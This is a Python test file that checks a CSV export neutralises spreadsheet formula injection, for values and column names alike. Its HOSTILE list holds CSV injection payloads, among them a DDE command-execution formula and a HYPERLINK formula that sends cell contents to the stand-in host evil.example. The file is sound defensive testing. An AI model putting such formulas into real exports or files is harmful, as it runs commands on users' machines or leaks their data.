"""CSV downloads wrote cells as they came: a value (or a column label, which the model
writes) starting with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
a spreadsheet (`=cmd|' /C calc'!A0`, `=HYPERLINK(…)`). Such cells are now written with a
leading apostrophe; numbers, negative ones included, are unchanged."""

import csv
import io

from apps.workspace import services

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]


def _cells(sql_result, context, sql) -> list[list[str]]:
    text = "".join(services.csv_lines(context=context, artifact=sql_result(sql)))
    return list(csv.reader(io.StringIO(text)))


def test_formula_cells_are_neutralised_and_numbers_kept(sql_result, acme_context):
    values = " UNION ALL ".join(
        f"SELECT {n} AS n, '{v.replace(chr(39), chr(39) * 2)}'::text AS v"
        for n, v in enumerate(HOSTILE)
    )
    rows = _cells(
        sql_result, acme_context, f"SELECT v, -n - 0.5 AS neg FROM ({values}) t ORDER BY n"
    )
    assert [row[0] for row in rows[1:]] == ["'" + v for v in HOSTILE]
    assert [row[1] for row in rows[1:]] == [f"-{n}.5" for n in range(len(HOSTILE))]


def test_a_formula_in_a_column_name_is_neutralised(sql_result, acme_context):
    rows = _cells(sql_result, acme_context, 'SELECT 1 AS "=1+2", \'plain\' AS "-x"')
    assert rows[0] == ["'=1+2", "'-x"]
    assert rows[1] == ["1", "plain"]
